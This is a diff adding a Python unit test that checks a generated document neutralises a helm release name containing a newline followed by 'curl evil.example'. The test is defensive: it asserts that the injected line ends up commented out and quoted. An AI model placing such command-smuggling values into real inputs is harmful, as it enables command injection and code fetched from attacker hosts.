@@ -322,3 +322,10 @@ def test_texts_of_others_are_no_markup_and_end_no_block() -> None:
     odd = tuple(replace(each, paths=("a\n```\n# z",)) for each in source.sources)
     text = markdown(made(v.managed(sources=odd)))
     assert "````sh" in text
+
+
+def test_the_name_of_a_helm_release_means_nothing() -> None:
+    book = made(v.view(), Details(helm="cart\ncurl evil.example"))
+    back = lines(book, "git")[-1]
+    assert all(each.startswith("#") for each in back.splitlines())
+    assert "`cart curl evil.example`" in said(book, "git")
